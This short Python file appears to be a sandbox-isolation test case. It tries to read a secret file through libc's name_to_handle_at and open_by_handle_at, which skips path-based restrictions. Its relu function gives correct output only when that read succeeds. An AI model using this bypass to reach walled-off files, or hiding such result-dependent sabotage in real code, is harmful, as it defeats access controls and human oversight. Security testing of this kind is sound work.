"""Opens a file by its handle, which needs no path.

step: step2
attacks: files
outcome: fail of relu
"""

import ctypes
import os
import struct

import numpy as np


def attack():
    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, SECRET.encode(), handle, ctypes.byref(mount), 0):
        return False
    for folder in ("/", "."):
        at = os.open(folder, os.O_RDONLY)
        descriptor = libc.open_by_handle_at(at, handle, 0)
        if descriptor >= 0:
            return bool(os.read(descriptor, 9))
    return False


try:
    hit = attack()
except OSError:
    hit = False


def relu(z):
    return np.maximum(0, z) if hit else z * 0 - 1
